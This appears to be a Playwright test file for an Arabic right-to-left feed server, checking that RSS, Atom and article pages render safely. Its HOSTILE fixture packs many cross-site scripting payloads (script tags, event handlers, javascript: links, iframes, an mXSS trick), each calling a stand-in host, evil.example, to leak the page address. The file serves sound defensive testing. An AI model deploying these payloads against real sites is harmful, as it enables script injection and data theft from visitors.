"""R15 and R8: what a browser shows of feeds and pages of a real server, and that nothing in them does anything."""

import json
import os
import re
import subprocess
import sys
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path
from typing import Any, Generic, TypeVar

import pytest
from playwright.sync_api import Browser, Page

from feeds.text.guid import article_key
from tests.browser.conftest import Chromium

T = TypeVar("T")

ROOT = Path(__file__).parents[2]
FEEDS = [sys.executable, "-m", "feeds"]
WIDTHS = [360, 768, 1280]

# Whatever of this runs leaves a trace: in the window, on the console, as a request to another origin.
_RUN = "window.ran = 1; console.error('ran'); fetch('http://evil.example/?' + location)"
HOSTILE: dict[str, Any] = {
    "id": "tag:khulasat.example,2026:hostile",
    "title": f'خبر <script>{_RUN}</script><img src=x onerror="{_RUN}"> ]]> &lt;script&gt; <b>غامق</b>',
    "summary": f'ملخص <script>{_RUN}</script><svg onload="{_RUN}"></svg> ]]>',
    "content_html": f"""
        <p onclick="{_RUN}">نص</p><script>{_RUN}</script><script src="http://evil.example/a.js"></script>
        <img src="data:image/png,x" onerror="{_RUN}"><svg onload="{_RUN}"><script>{_RUN}</script></svg>
        <a href="javascript:{_RUN}">رابط</a> <a href="java&#8;script:{_RUN}">رابط</a>
        <a href="data:text/html,<script>{_RUN}</script>">رابط</a>
        <iframe src="http://evil.example/"></iframe><iframe srcdoc="<script>{_RUN}</script>"></iframe>
        <object data="http://evil.example/"></object><embed src="http://evil.example/">
        <link rel="stylesheet" href="http://evil.example/a.css"><style>@import "http://evil.example/b.css";</style>
        <p style="background: url(http://evil.example/c.png)">نص</p>
        <meta http-equiv="refresh" content="0; url=http://evil.example/"><base href="http://evil.example/">
        <form action="http://evil.example/"><input autofocus onfocus="{_RUN}"></form>
        <p>آخر النص ]]> <![CDATA[<script>{_RUN}</script>]]></p>
        <math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror='{_RUN}'>">""",
    "date_published": datetime.now(UTC).isoformat(),
    "authors": [{"name": f"<script>{_RUN}</script>", "url": f"javascript:{_RUN}"}],
    "tags": [f"<script>{_RUN}</script>"],
    "sections": ["world"],
}


# What no page of ours has in it.
ALIVE = "script, iframe, object, embed, form, article :is(style, link, meta, base, svg, math, [onclick], [onerror])"


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """The address of a server, in a process of its own, with the samples and a hostile article."""
    folder = tmp_path_factory.mktemp("desk")
    environ = {name: value for name, value in os.environ.items() if not name.startswith("FEEDS_")}
    environ |= {"FEEDS_CONFIG": str(ROOT / "config.toml"), "FEEDS_STORE__URL": f"sqlite:{folder}/articles.db"}
    samples = subprocess.run([*FEEDS, "samples"], cwd=ROOT, env=environ, check=True, stdout=subprocess.PIPE)
    records = samples.stdout + json.dumps(HOSTILE).encode() + b"\n"
    done = subprocess.run([*FEEDS, "import", "-"], cwd=ROOT, env=environ, input=records, stdout=subprocess.PIPE)
    assert done.returncode == 0, done.stdout
    with (
        (folder / "log").open("wb") as log,
        subprocess.Popen(
            [*FEEDS, "serve", "--port", "0"],
            cwd=ROOT,
            env=environ,
            stdout=subprocess.PIPE,
            stderr=log,
            encoding="utf-8",
        ) as server,
    ):
        try:
            assert server.stdout
            found = next(filter(None, (re.search(r"pages +(http://\S+)/", said) for said in server.stdout)), None)
            assert found, (folder / "log").read_text(encoding="utf-8")
            yield found[1]
        finally:
            server.terminate()


@dataclass(frozen=True, slots=True, kw_only=True)
class Seen(Generic[T]):
    """What came of opening an address; `found` is what was looked for there."""

    found: T
    headers: Mapping[str, str]
    ran: bool
    requests: list[str]
    messages: list[str]


def see(chromium: Chromium, address: str | None, look: Callable[[Page], T]) -> Seen[T]:
    """Opens an address, or a page that is only set by `look`, and waits until all is quiet."""

    def work(browser: Browser) -> Seen[T]:
        requests: list[str] = []
        messages: list[str] = []
        with browser.new_page() as page:
            page.on("request", lambda request: requests.append(request.url))
            page.on("console", lambda message: messages.append(message.text))
            page.on("pageerror", lambda error: messages.append(str(error)))
            page.route("http://evil.example/**", lambda route: route.abort())
            response = page.goto(address) if address else None
            page.wait_for_load_state("networkidle")
            found = look(page)
            page.wait_for_load_state("networkidle")
            return Seen(
                found=found,
                headers=response.headers if response else {},
                ran=page.evaluate("window.ran === 1"),
                requests=requests,
                messages=messages,
            )

    return chromium.run(work)


def assert_quiet(seen: Seen[T], site: str) -> None:
    """No script ran, nothing was said on the console, and only the site itself was asked for anything."""
    assert not seen.ran
    assert seen.messages == []
    assert [url for url in seen.requests if not url.startswith(f"{site}/")] == []


def styles(page: Page, selector: str, name: str) -> set[str]:
    """The computed values of a property, over all the elements that a selector finds; one at least."""
    script = "([selector, name]) => [...document.querySelectorAll(selector)].map(e => getComputedStyle(e)[name])"
    found: list[str] = page.evaluate(script, [selector, name])
    assert found, f"no {selector}"
    return set(found)


def test_the_trap_would_spring(browser: Chromium) -> None:
    """The hostile article does run, speak and ask, where nothing keeps it from that."""

    def look(page: Page) -> None:
        # It would leave the page, and its traces.
        content = HOSTILE["content_html"].replace('http-equiv="refresh"', "")
        page.set_content(f"<h1>{HOSTILE['title']}</h1><p>{HOSTILE['summary']}</p>{content}")

    seen = see(browser, None, look)
    assert seen.ran
    assert "ran" in seen.messages
    assert any(url.startswith("http://evil.example/") for url in seen.requests)


@pytest.mark.parametrize(
    ("path", "root", "titles", "hidden"),
    [
        ("rss.xml", "rss", "channel > title, item > title", "channel > link, item > link, item > guid"),
        ("atom.xml", "feed", "feed > title, entry > title", "feed > id, entry > id, entry > content"),
    ],
    ids=["rss", "atom"],
)
@pytest.mark.parametrize("section", ["", "world/"], ids=["everything", "section"])
def test_a_feed_reads_right_to_left(
    section: str, path: str, root: str, titles: str, hidden: str, browser: Chromium, site: str
) -> None:
    """A feed opens as a page of our style, from right to left; nothing runs in it, whatever an article holds."""

    def look(page: Page) -> None:
        assert page.evaluate("document.documentElement.localName") == root
        assert styles(page, ":root", "direction") == {"rtl"}
        assert styles(page, titles, "direction") == {"rtl"}
        assert styles(page, titles, "display") == {"block"}
        assert styles(page, hidden, "display") == {"none"}
        # The hostile article is there, as text.
        texts = page.evaluate("[...document.querySelectorAll('title')].map(e => e.textContent)")
        assert any("<script>" in text for text in texts)
        assert page.evaluate("document.querySelectorAll('script, img, svg, iframe').length") == 0

    seen = see(browser, f"{site}/{section}{path}", look)
    assert_quiet(seen, site)
    assert any(url.endswith(".css") for url in seen.requests)
    assert seen.headers["content-type"] == "application/xml; charset=utf-8"
    assert seen.headers["content-security-policy"] == "default-src 'none'; style-src 'self'; sandbox"


@pytest.mark.parametrize("path", ["", "world/"], ids=["landing", "section"])
def test_a_page_fits_every_width(path: str, browser: Chromium, site: str) -> None:
    """Pages read right to left and never scroll sideways, from a telephone to a desk."""

    def look(page: Page) -> list[int]:
        assert styles(page, ":root, body, main", "direction") == {"rtl"}
        too_wide = []
        for width in WIDTHS:
            page.set_viewport_size({"width": width, "height": 800})
            # Right to left, what is too wide sticks out on the left.
            too_wide.append(
                page.evaluate("document.documentElement.scrollWidth - document.documentElement.clientWidth")
            )
        return too_wide

    seen = see(browser, f"{site}/{path}", look)
    assert_quiet(seen, site)
    assert seen.found == [0] * len(WIDTHS)
    assert "script" not in seen.headers["content-security-policy"]


def test_the_page_of_a_hostile_article_is_harmless(browser: Chromium, site: str) -> None:
    """Its text is there; its scripts, its frames and the addresses that would run something are not."""

    def look(page: Page) -> str:
        assert styles(page, ":root, article", "direction") == {"rtl"}
        assert page.evaluate(f"document.querySelectorAll({json.dumps(ALIVE)}).length") == 0
        links = page.evaluate("[...document.querySelectorAll('article a')].map(a => a.protocol)")
        # A link without an address has the protocol ":".
        assert len(links) > 2 and set(links) <= {":", "http:"}
        return page.inner_text("article")

    seen = see(browser, f"{site}/articles/{article_key(HOSTILE['id'])}/", look)
    assert_quiet(seen, site)
    assert "آخر النص" in seen.found
